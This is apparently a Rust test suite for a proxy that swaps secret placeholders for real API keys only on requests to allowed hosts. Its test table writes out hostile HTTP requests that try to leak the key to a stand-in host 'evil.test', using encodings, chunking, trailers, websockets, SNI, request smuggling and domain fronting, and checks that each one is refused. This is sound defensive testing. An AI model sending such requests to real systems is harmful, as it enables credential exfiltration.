//! Table-driven tests of the substitution engine: NETWORK.md 9.9, one row per hostile case.

use std::io::Write;
use std::sync::Arc;

use base64::Engine as _;

use super::config::*;
use super::scan::{Scanner, StreamReplacer};
use super::stream::*;

const VALUE: &str = "sk-REAL-VALUE-123";

fn set_json(extra: &str) -> String {
    format!(
        r#"{{"secrets":[{{"env":"API_KEY","value":"{VALUE}","hosts":["api.example.com","*.allowed.test"]{extra}}},
                       {{"env":"OTHER","value":"other-secret","hosts":["other.example.com"]}}]}}"#
    )
}

fn set(extra: &str) -> Arc<SecretSet> {
    Arc::new(SecretSet::from_wire(set_json(extra).as_bytes()).expect("valid set"))
}

fn id(host: &str) -> ConnIdentity {
    ConnIdentity { tls: true, sni: Some(host.into()), pinned_name: Some(host.into()) }
}

/// Feeds `req` split into pieces of `step` bytes; returns the upstream bytes or the refusal.
fn run(set: &Arc<SecretSet>, ident: ConnIdentity, req: &[u8], step: usize) -> Result<Vec<u8>, Refusal> {
    let mut s = Substituter::new(Arc::clone(set), ident)?;
    let mut out = Vec::new();
    for piece in req.chunks(step.max(1)) {
        s.feed(piece, &mut out)?;
    }
    s.finish(&mut out)?;
    Ok(out)
}

fn contains(h: &[u8], n: &[u8]) -> bool {
    h.windows(n.len()).any(|w| w == n)
}

fn b64(s: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(s)
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

enum Want {
    /// Passes; the upstream bytes contain the value this many times.
    Value(usize),
    /// Passes; the upstream bytes equal the input (nothing substituted, nothing refused).
    Untouched,
    Violation(&'static str, Part),
    Malformed,
    Unsupported,
    TooLarge,
}

#[test]
fn hostile_table() {
    let p = "$MSB_API_KEY";
    let allowed = "api.example.com";
    let evil = "evil.test";
    let cases: Vec<(&str, &str, &str, Vec<u8>, Want)> = vec![
        // (name, extra secret json, connection host, request, expectation)
        ("header to allowed host is substituted", "", allowed,
         format!("GET / HTTP/1.1\r\nHost: {allowed}\r\nAuthorization: Bearer {p}\r\n\r\n").into_bytes(), Want::Value(1)),
        ("header to other host", "", evil,
         format!("GET / HTTP/1.1\r\nHost: {evil}\r\nAuthorization: Bearer {p}\r\n\r\n").into_bytes(), Want::Violation("API_KEY", Part::Header)),
        ("header name to other host", "", evil,
         format!("GET / HTTP/1.1\r\nHost: {evil}\r\nX-{p}: 1\r\n\r\n").into_bytes(), Want::Violation("API_KEY", Part::Header)),
        ("query to other host", "", evil,
         format!("GET /?k={p} HTTP/1.1\r\nHost: {evil}\r\n\r\n").into_bytes(), Want::Violation("API_KEY", Part::Query)),
        ("path to other host", "", evil,
         format!("GET /{p}/x HTTP/1.1\r\nHost: {evil}\r\n\r\n").into_bytes(), Want::Violation("API_KEY", Part::Path)),
        ("percent-encoded in query", "", evil,
         format!("GET /?k=%24MSB_API_KEY HTTP/1.1\r\nHost: {evil}\r\n\r\n").into_bytes(), Want::Violation("API_KEY", Part::Query)),
        ("mixed percent-encoding per byte", "", evil,
         format!("GET /?k=%24%4dSB_%41PI_KEY HTTP/1.1\r\nHost: {evil}\r\n\r\n").into_bytes(), Want::Violation("API_KEY", Part::Query)),
        ("JSON-escaped in body", "", evil,
         b(&format!("POST / HTTP/1.1\r\nHost: {evil}\r\nContent-Length: 24\r\n\r\n{{\"k\":\"\\u0024MSB_API_KEY\"}}")), Want::Violation("API_KEY", Part::Body)),
        ("raw in body", "", evil,
         b(&format!("POST / HTTP/1.1\r\nHost: {evil}\r\nContent-Length: 14\r\n\r\nk={p}")), Want::Violation("API_KEY", Part::Body)),
        ("Basic auth to other host", "", evil,
         format!("GET / HTTP/1.1\r\nHost: {evil}\r\nAuthorization: Basic {}\r\n\r\n", b64(&format!("user:{p}"))).into_bytes(), Want::Violation("API_KEY", Part::BasicAuth)),
        ("Basic auth to allowed host is substituted", "", allowed,
         format!("GET / HTTP/1.1\r\nHost: {allowed}\r\nAuthorization: Basic {}\r\n\r\n", b64(&format!("user:{p}"))).into_bytes(), Want::Value(0)),
        ("gzip body to other host", "", evil,
         { let z = gzip(format!("{{\"k\":\"{p}\"}}").as_bytes());
           let mut r = format!("POST / HTTP/1.1\r\nHost: {evil}\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n", z.len()).into_bytes();
           r.extend_from_slice(&z); r }, Want::Violation("API_KEY", Part::Body)),
        ("unknown body encoding to other host", "", evil,
         b(&format!("POST / HTTP/1.1\r\nHost: {evil}\r\nContent-Encoding: br\r\nContent-Length: 3\r\n\r\nabc")), Want::Unsupported),
        ("chunked body, placeholder split across chunks", "", evil,
         b(&format!("POST / HTTP/1.1\r\nHost: {evil}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n$MSB_\r\n7\r\nAPI_KEY\r\n0\r\n\r\n")), Want::Violation("API_KEY", Part::Body)),
        ("chunked with lying size", "", evil,
         b(&format!("POST / HTTP/1.1\r\nHost: {evil}\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nabcdef\r\n0\r\n\r\n")), Want::Malformed),
        ("chunk size overflow", "", evil,
         b(&format!("POST / HTTP/1.1\r\nHost: {evil}\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffffff\r\n")), Want::Malformed),
        ("CL+TE smuggling", "", allowed,
         b(&format!("POST / HTTP/1.1\r\nHost: {allowed}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")), Want::Malformed),
        ("two Content-Lengths", "", allowed,
         b(&format!("POST / HTTP/1.1\r\nHost: {allowed}\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab")), Want::Malformed),
        ("TE other than chunked", "", allowed,
         b(&format!("POST / HTTP/1.1\r\nHost: {allowed}\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n")), Want::Unsupported),
        ("two Host headers", "", allowed,
         b(&format!("GET / HTTP/1.1\r\nHost: {allowed}\r\nHost: {evil}\r\n\r\n")), Want::Malformed),
        ("no Host in HTTP/1.1", "", allowed, b("GET / HTTP/1.1\r\n\r\n"), Want::Malformed),
        ("absolute-form target to another host", "", allowed,
         b(&format!("GET http://{evil}/ HTTP/1.1\r\nHost: {allowed}\r\n\r\n")), Want::Malformed),
        ("pipelined second request to another Host", "", allowed,
         b(&format!("GET / HTTP/1.1\r\nHost: {allowed}\r\nX-K: {p}\r\n\r\nGET / HTTP/1.1\r\nHost: {evil}\r\nX-K: {p}\r\n\r\n")), Want::Violation("API_KEY", Part::Header)),
        ("Host differs from SNI (domain fronting)", "", allowed,
         b(&format!("GET / HTTP/1.1\r\nHost: other.allowed.test\r\nX-K: {p}\r\n\r\n")), Want::Violation("API_KEY", Part::Header)),
        ("wildcard host allowed", "", "a.allowed.test",
         b(&format!("GET / HTTP/1.1\r\nHost: a.allowed.test\r\nX-K: {p}\r\n\r\n")), Want::Value(1)),
        ("wildcard does not cover the apex", "", "allowed.test",
         b(&format!("GET / HTTP/1.1\r\nHost: allowed.test\r\nX-K: {p}\r\n\r\n")), Want::Violation("API_KEY", Part::Header)),
        ("suffix confusion", "", "evilapi.example.com",
         b(&format!("GET / HTTP/1.1\r\nHost: evilapi.example.com\r\nX-K: {p}\r\n\r\n")), Want::Violation("API_KEY", Part::Header)),
        ("query substitution off by default: placeholder passes unchanged", "", allowed,
         b(&format!("GET /?k={p} HTTP/1.1\r\nHost: {allowed}\r\n\r\n")), Want::Untouched),
        ("body substitution off: placeholder passes unchanged (#1354)", "", allowed,
         b(&format!("POST / HTTP/1.1\r\nHost: {allowed}\r\nContent-Length: 12\r\n\r\n{p}")), Want::Untouched),
        ("query substitution on", r#","inject":{"query":true}"#, allowed,
         b(&format!("GET /?k={p}&j=%24MSB_API_KEY HTTP/1.1\r\nHost: {allowed}\r\n\r\n")), Want::Value(2)),
        ("fixed body substitution on (Content-Length rewritten)", r#","inject":{"body":true}"#, allowed,
         b(&format!("POST / HTTP/1.1\r\nHost: {allowed}\r\nContent-Length: 16\r\n\r\nk={p}&x")), Want::Value(1)),
        ("chunked body substitution, placeholder split across chunks", r#","inject":{"body":true}"#, allowed,
         b(&format!("POST / HTTP/1.1\r\nHost: {allowed}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n$MSB_\r\n7\r\nAPI_KEY\r\n0\r\n\r\n")), Want::Value(1)),
        ("fixed body over 16 MiB with body substitution", r#","inject":{"body":true}"#, allowed,
         b(&format!("POST / HTTP/1.1\r\nHost: {allowed}\r\nContent-Length: 16777217\r\n\r\n")), Want::TooLarge),
        ("headers substitution off", r#","inject":{"headers":false}"#, allowed,
         b(&format!("GET / HTTP/1.1\r\nHost: {allowed}\r\nX-K: {p}\r\n\r\n")), Want::Untouched),
        ("plain HTTP with require_tls (default)", "", allowed,
         b(&format!("GET / HTTP/1.1\r\nHost: {allowed}\r\nX-K: {p}\r\n\r\n")), Want::Violation("API_KEY", Part::Header)),
        ("passthrough to a listed host", r#","on_violation":{"passthrough":["evil.test"]}"#, evil,
         b(&format!("GET / HTTP/1.1\r\nHost: {evil}\r\nX-K: {p}\r\n\r\n")), Want::Untouched),
        ("passthrough elsewhere still blocks", r#","on_violation":{"passthrough":["x.test"]}"#, evil,
         b(&format!("GET / HTTP/1.1\r\nHost: {evil}\r\nX-K: {p}\r\n\r\n")), Want::Violation("API_KEY", Part::Header)),
        ("placeholder in a trailer", "", evil,
         b(&format!("POST / HTTP/1.1\r\nHost: {evil}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX-T: {p}\r\n\r\n")), Want::Violation("API_KEY", Part::Trailer)),
        ("websocket frames after Upgrade", "", evil,
         b(&format!("GET /ws HTTP/1.1\r\nHost: {evil}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n\x01\x0c{p}")), Want::Violation("API_KEY", Part::Upgraded)),
        ("HTTP/2 preface", "", allowed, b("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), Want::Unsupported),
        ("CONNECT inside the tunnel", "", allowed,
         b(&format!("CONNECT {evil}:443 HTTP/1.1\r\nHost: {evil}:443\r\n\r\n")), Want::Unsupported),
        ("head over 64 KiB", "", allowed,
         { let mut r = format!("GET / HTTP/1.1\r\nHost: {allowed}\r\nX: ").into_bytes(); r.extend(std::iter::repeat_n(b'a', 70_000)); r.extend_from_slice(b"\r\n\r\n"); r }, Want::TooLarge),
        ("the other secret to its own host is fine, this one is not", "", "other.example.com",
         b(&format!("GET / HTTP/1.1\r\nHost: other.example.com\r\nA: $MSB_OTHER\r\nB: {p}\r\n\r\n")), Want::Violation("API_KEY", Part::Header)),
        ("clean request to other host passes untouched", "", evil,
         b(&format!("POST /x?q=1 HTTP/1.1\r\nHost: {evil}\r\nContent-Length: 5\r\n\r\nhello")), Want::Untouched),
        ("truncated request at EOF", "", allowed,
         b(&format!("POST / HTTP/1.1\r\nHost: {allowed}\r\nContent-Length: 10\r\n\r\nabc")), Want::Malformed),
    ];
    for (name, extra, host, req, want) in cases {
        let s = set(extra);
        let ident = if name.starts_with("plain HTTP") {
            ConnIdentity { tls: false, sni: None, pinned_name: Some(host.into()) }
        } else {
            id(host)
        };
        // Every case at every split: one write, 1-byte writes, odd-sized writes.
        for step in [req.len().max(1), 1, 7, 4096] {
            let got = run(&s, ident.clone(), &req, step);
            let ctx = format!("{name} (step {step})");
            match (&want, &got) {
                (Want::Value(n), Ok(out)) => {
                    let count = out.windows(VALUE.len()).filter(|w| *w == VALUE.as_bytes()).count();
                    if *n == 0 {
                        // Basic auth: the value is inside the base64.
                        let text = String::from_utf8_lossy(out);
                        let enc = text.lines().find(|l| l.starts_with("Authorization: Basic ")).unwrap();
                        let dec = base64::engine::general_purpose::STANDARD.decode(enc[21..].trim()).unwrap();
                        assert_eq!(dec, format!("user:{VALUE}").into_bytes(), "{ctx}");
                    } else {
                        assert_eq!(count, *n, "{ctx}: {}", String::from_utf8_lossy(out));
                    }
                    assert!(!contains(out, p.as_bytes()) || name.contains("Basic"), "{ctx}: placeholder left");
                }
                (Want::Untouched, Ok(out)) => assert_eq!(out, &req, "{ctx}"),
                (Want::Violation(env, part), Err(Refusal::Violation(v))) => {
                    assert_eq!((v.env.as_str(), v.part), (*env, *part), "{ctx}");
                }
                (Want::Malformed, Err(Refusal::Malformed(_)))
                | (Want::Unsupported, Err(Refusal::Unsupported(_)))
                | (Want::TooLarge, Err(Refusal::TooLarge(_))) => {}
                (_, got) => panic!("{ctx}: unexpected {:?}", got.as_ref().map(|o| String::from_utf8_lossy(o).into_owned())),
            }
            if let Err(e) = &got {
                assert!(!e.to_string().contains(VALUE), "{ctx}: value in message");
                assert!(!format!("{e:?}").contains(VALUE), "{ctx}: value in Debug");
            }
        }
    }
}

fn b(s: &str) -> Vec<u8> {
    s.as_bytes().to_vec()
}

#[test]
fn fixed_body_substitution_rewrites_content_length() {
    let s = set(r#","inject":{"body":true}"#);
    let req = b("POST / HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 12\r\n\r\n$MSB_API_KEY");
    let out = run(&s, id("api.example.com"), &req, 3).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert!(text.contains(&format!("Content-Length: {}\r\n", VALUE.len())), "{text}");
    assert!(text.ends_with(&format!("\r\n\r\n{VALUE}")), "{text}");
}

#[test]
fn chunked_substitution_is_valid_chunked() {
    let s = set(r#","inject":{"body":true}"#);
    let req = b("POST / HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nab$M\r\n8\r\nSB_API_K\r\n3\r\nEYz\r\n0\r\n\r\n");
    let out = run(&s, id("api.example.com"), &req, 5).unwrap();
    let text = String::from_utf8(out).unwrap();
    let body = &text[text.find("\r\n\r\n").unwrap() + 4..];
    // Decode the chunked body.
    let mut rest = body;
    let mut decoded = String::new();
    loop {
        let (size, after) = rest.split_once("\r\n").unwrap();
        let n = usize::from_str_radix(size, 16).unwrap();
        if n == 0 {
            assert_eq!(after, "\r\n");
            break;
        }
        decoded.push_str(&after[..n]);
        assert_eq!(&after[n..n + 2], "\r\n");
        rest = &after[n + 2..];
    }
    assert_eq!(decoded, format!("ab{VALUE}z"));
}

#[test]
fn pipelined_requests_each_get_their_own_decision() {
    let s = set("");
    let one = "GET /a HTTP/1.1\r\nHost: api.example.com\r\nX-K: $MSB_API_KEY\r\n\r\n";
    let req = b(&format!("{one}{one}POST /b HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 3\r\n\r\nabc{one}"));
    let out = run(&s, id("api.example.com"), &req, 11).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert_eq!(text.matches(VALUE).count(), 3, "{text}");
    assert!(text.contains("\r\n\r\nabcGET /a"), "{text}");
}

#[test]
fn connection_identity_must_match_everywhere() {
    let s = set("");
    let req = b("GET / HTTP/1.1\r\nHost: api.example.com\r\nX-K: $MSB_API_KEY\r\n\r\n");
    // SNI missing, pin missing, pin for another name: never substituted.
    for ident in [
        ConnIdentity { tls: true, sni: None, pinned_name: Some("api.example.com".into()) },
        ConnIdentity { tls: true, sni: Some("api.example.com".into()), pinned_name: None },
        ConnIdentity { tls: true, sni: Some("api.example.com".into()), pinned_name: Some("evil.test".into()) },
    ] {
        match run(&s, ident, &req, 9) {
            Err(Refusal::Violation(v)) => assert_eq!(v.env, "API_KEY"),
            other => panic!("{other:?}"),
        }
    }
}

#[test]
fn placeholder_in_sni_is_refused() {
    let s = set("");
    let ident = ConnIdentity { tls: true, sni: Some("x-$MSB_API_KEY.evil.test".into()), pinned_name: None };
    match Substituter::new(s, ident) {
        Err(Refusal::Violation(v)) => assert_eq!(v.part, Part::Sni),
        other => panic!("{:?}", other.map(|_| ())),
    }
}

#[test]
fn placeholder_in_a_dns_name() {
    let s = set("");
    assert_eq!(s.placeholder_in_name(b"x.%24MSB_OTHER.evil.test"), Some("OTHER"));
    assert_eq!(s.placeholder_in_name(b"api.example.com"), None);
}

#[test]
fn longest_placeholder_wins() {
    let json = r#"{"secrets":[{"env":"A","value":"va","hosts":["h.test"]},{"env":"AB","value":"vab","hosts":["h.test"]}]}"#;
    let s = Arc::new(SecretSet::from_wire(json.as_bytes()).unwrap());
    let out = run(&s, id("h.test"), b"GET / HTTP/1.1\r\nHost: h.test\r\nX: $MSB_AB $MSB_A\r\n\r\n", 2).unwrap();
    assert!(String::from_utf8(out).unwrap().contains("X: vab va\r\n"));
}

#[test]
fn scanner_keeps_a_bounded_tail() {
    let mut sc = Scanner::new(vec!["$MSB_KEY"]);
    for _ in 0..10_000 {
        assert_eq!(sc.feed(b"abcdefgh%2"), None);
        assert!(sc.tail_len() <= 8 * 6);
    }
    assert_eq!(sc.feed(b"4MSB_KEY"), Some(0));
    let mut r = StreamReplacer::default();
    let mut out = Vec::new();
    let subs: [(&[u8], &[u8]); 1] = [(b"$MSB_KEY", b"v")];
    for piece in [&b"xx$M"[..], b"SB_", b"KEYyy$", b"MSB"] {
        r.feed(piece, &subs, &mut out);
    }
    r.finish(&subs, &mut out);
    assert_eq!(out, b"xxvyy$MSB");
}

#[test]
fn config_errors_name_keys_never_values() {
    let bad = [
        (r#"{"secrets":[{"env":"K","value":"s3cr3t-v","hosts":[]}]}"#, "host"),
        (r#"{"secrets":[{"env":"K","value":"","hosts":["a.test"]}]}"#, "value"),
        (r#"{"secrets":[{"env":"K","value":"s3cr3t-v\r\n","hosts":["a.test"]}]}"#, "value"),
        (r#"{"secrets":[{"env":"1K","value":"s3cr3t-v","hosts":["a.test"]}]}"#, "env"),
        (r#"{"secrets":[{"env":"K","value":"s3cr3t-v","hosts":["a b"]}]}"#, "hosts"),
        (r#"{"secrets":[{"env":"K","value":"s3cr3t-v","placeholder":"has space","hosts":["a.test"]}]}"#, "placeholder"),
        (r#"{"secrets":[{"env":"K","value":"s3cr3t-v","on_violation":"explode","hosts":["a.test"]}]}"#, "on_violation"),
        (r#"{"secrets":[{"env":"K","value":"s3cr3t-v","hosts":["a.test"]},{"env":"J","value":"s3cr3t-v","placeholder":"$MSB_K","hosts":["a.test"]}]}"#, "placeholder"),
        (r#"{"secrets":[{"env":"K","value":"s3cr3t-v","hosts":["a.test"]},{"env":"K","value":"s3cr3t-w","hosts":["a.test"]}]}"#, "env"),
        (r#"{"secrets":[{"env":"K","value":"s3cr3t-v","hosts":["a.test"],"bogus":1}]}"#, "secrets"),
    ];
    let long = format!(r#"{{"secrets":[{{"env":"K","value":"s3cr3t-v","placeholder":"{}","hosts":["a.test"]}}]}}"#, "x".repeat(1025));
    for (json, key) in bad.iter().map(|(j, k)| (j.to_string(), *k)).chain([(long, "placeholder")]) {
        let e = SecretSet::from_wire(json.as_bytes()).unwrap_err();
        assert_eq!(e.key, key, "{json}");
        assert!(!e.to_string().contains("s3cr3t"), "{e}");
    }
    let ok = SecretSet::from_wire(br#"{"secrets":[{"env":"K","value":"s3cr3t-v","hosts":["A.Test."]}],"on_violation":{"passthrough":["*.x.test"]}}"#).unwrap();
    assert_eq!(ok.secrets[0].placeholder, "$MSB_K");
    assert!(ok.secrets[0].allows("a.test"));
    assert!(!format!("{ok:?}").contains("s3cr3t"));
    assert!(ok.on_violation.passes("y.x.test"));
}

#[test]
fn buffered_bodies_share_one_budget_across_connections() {
    let set = set(r#","inject":{"body":true}"#);
    let head = |len: u64| format!("POST / HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: {len}\r\n\r\n$MSB_API_KEY");
    let mut out = Vec::new();
    let mut held = Vec::new();
    // Four connections each hold a 16 MiB body (head and first bytes sent): 64 MiB.
    for _ in 0..4 {
        let mut s = Substituter::new(Arc::clone(&set), id("api.example.com")).unwrap();
        s.feed(head(MAX_SUBST_BODY).as_bytes(), &mut out).unwrap();
        held.push(s);
    }
    let mut fifth = Substituter::new(Arc::clone(&set), id("api.example.com")).unwrap();
    assert!(matches!(fifth.feed(head(1024).as_bytes(), &mut out), Err(Refusal::TooLarge(_))));
    // A connection that goes away gives its share back.
    held.pop();
    let mut sixth = Substituter::new(Arc::clone(&set), id("api.example.com")).unwrap();
    sixth.feed(head(1024).as_bytes(), &mut out).unwrap();
    // A completed body gives it back too.
    let mut body_out = Vec::new();
    sixth.feed(&vec![b'x'; 1024 - "$MSB_API_KEY".len()], &mut body_out).unwrap();
    assert!(contains(&body_out, VALUE.as_bytes()));
    drop(held);
    assert_eq!(set.buffered.load(std::sync::atomic::Ordering::SeqCst), 0);
}
